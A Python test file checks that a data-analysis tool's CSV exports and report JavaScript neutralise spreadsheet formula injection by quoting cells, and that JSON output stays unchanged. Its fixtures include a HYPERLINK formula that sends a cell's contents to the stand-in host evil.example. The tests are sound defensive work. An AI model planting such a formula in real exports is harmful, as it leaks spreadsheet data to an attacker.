"""CSV cells never run as spreadsheet formulas (issue item 7); JSON stays verbatim.

Also the report's own "download CSV" button and facility filter, run in
node when it is installed.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
import subprocess
from importlib import resources

import pytest

from amnesty.analysis.outputs import write_csv
from amnesty.io.cells import safe_cell

FORMULAS = ['=HYPERLINK("https://evil.example/?"&A2,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_cells_get_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["", "RQA-01", "-3", "+2.5", "12", "a=b", "'=x", " =1"])
def test_other_cells_are_unchanged(text):
    assert safe_cell(text) == text


def _records(tmp_path):
    path = tmp_path / "in.jsonl"
    path.write_text("".join(json.dumps({"record_id": f, "facility_id": f}) + "\n" for f in FORMULAS[:4]))
    return path


def test_evaluate_csv_output_is_neutralised_and_json_is_verbatim(run, tmp_path):
    source = _records(tmp_path)
    assert run("evaluate", source, "-o", tmp_path / "out.csv").exit_code == 0
    with (tmp_path / "out.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["facility_id"] for r in rows] == ["'" + f for f in FORMULAS[:4]]
    assert [r["record_id"] for r in rows] == ["'" + f for f in FORMULAS[:4]]
    assert run("evaluate", source, "-o", tmp_path / "out.jsonl").exit_code == 0
    lines = (tmp_path / "out.jsonl").read_text().splitlines()
    assert [json.loads(line)["facility_id"] for line in lines] == FORMULAS[:4]


def test_timeline_csv_by_facility_is_neutralised(run, tmp_path):
    out = tmp_path / "t.csv"
    assert run("timeline", _records(tmp_path), "--group", "facility", "-o", out).exit_code == 0
    with out.open(newline="", encoding="utf-8") as handle:
        facilities = {row["facility"] for row in csv.DictReader(handle)}
    assert facilities == {"'" + f for f in FORMULAS[:4]}


def test_analysis_csv_writer_neutralises_header_and_cells(tmp_path):
    out = tmp_path / "changed.csv"
    write_csv(out, [{"=a": "=b", "n": -4, "l": ["@x", "y"]}], ["=a", "n", "l"])
    assert out.read_text().splitlines() == ["'=a,n,l", "'=b,-4,'@x;y"]


# -- the report's JavaScript ------------------------------------------------------

NODE = shutil.which("node")
JS = (resources.files("amnesty") / "report" / "templates" / "report.js").read_text(encoding="utf-8")


def _function(name):
    match = re.search(rf"\n  function {name}\(.*?\n  }}\n", JS, re.S)
    assert match, f"report.js has no function {name}"
    return match.group()


@pytest.mark.skipif(NODE is None, reason="node is not installed, so the report's JavaScript was not run")
def test_report_download_csv_and_facility_filter():
    script = (
        _function("csvField") + _function("unique")
        + "var ROWS = [['a', '__proto__'], ['b', '=1+1'], ['c', 'constructor']];\n"
        + "console.log(JSON.stringify({cells: " + json.dumps(FORMULAS + ["-3", "a,b", "RQA"]) + ".map(csvField),"
        + " facilities: unique(1)}));\n"
    )
    result = subprocess.run([NODE, "-e", script], capture_output=True, text=True, timeout=30, check=True)
    out = json.loads(result.stdout)
    assert out["cells"][0] == '"\'=HYPERLINK(""https://evil.example/?""&A2,""x"")"'
    assert out["cells"][1:] == ["'+1+1", "'-2+3", "'@SUM(A1)", "'\t=1", "\"'\r=1\"", "-3", '"a,b"', "RQA"]
    assert out["facilities"] == ["=1+1", "__proto__", "constructor"]
